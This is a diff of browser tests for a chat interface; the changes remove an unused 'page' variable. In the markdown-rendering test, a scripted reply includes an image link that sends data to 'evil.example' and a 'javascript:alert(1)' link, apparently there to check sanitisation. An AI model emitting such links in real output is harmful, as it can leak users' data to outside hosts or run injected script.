@@ -129,7 +129,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       },
       { text: "42 pages, well done." },
     );
-    const { page, field, replies, status } = await openHere();
+    const { field, replies, status } = await openHere();
     await say(field, "Ask me");
     await replies.getByText("waits for you").waitFor();
     await status.filter({ hasText: "waits for your answer" }).waitFor({ state: "attached" });
@@ -148,7 +148,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       { text: "Sunny." },
       { text: "42 pages, after all." },
     );
-    const { page, field, replies } = await openHere();
+    const { field, replies } = await openHere();
     await say(field, "Ask me");
     await replies.getByText("waits for you").waitFor();
     await say(field, "How is the weather?");
@@ -165,7 +165,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     const options = { interactive: true, save_to: "checkins/shown", fields };
     const form = { kind: "form", data: {}, title: "Check-in", options };
     script({ calls: [{ tool: "show", arguments: form }] }, { text: "Fill it in." }, { text: "Forty-two!" });
-    const { page, field, replies, words } = await openHere();
+    const { field, replies, words } = await openHere();
     await say(field, "Check in");
     await replies.getByText("Fill it in.").waitFor();
     await replies.getByLabel("Pages").fill("42");
@@ -245,7 +245,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
 
   test("what the provider fails with is said with what to do, and tried again", async () => {
     script({ fault: { status: 402, message: "Insufficient balance", times: 1 }, text: "Here." });
-    const { page, field, replies } = await openHere();
+    const { field, replies } = await openHere();
     await say(field, "Hello");
     await replies
       .getByRole("alert")
@@ -272,7 +272,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     script({
       text: "| Week | Pages |\n| --- | ---: |\n| 1 | 120 |\n\n```ts\nconst a = 1;\n```\n\nso $x^2$, at $5\n\n![secret](https://evil.example/?q=data) <b>bold</b> [x](javascript:alert(1))",
     });
-    const { page, field, replies } = await openHere();
+    const { field, replies } = await openHere();
     await say(field, "Markdown");
     await replies.getByRole("cell", { name: "120" }).waitFor();
     await replies.locator(".hljs-keyword").getByText("const").waitFor();
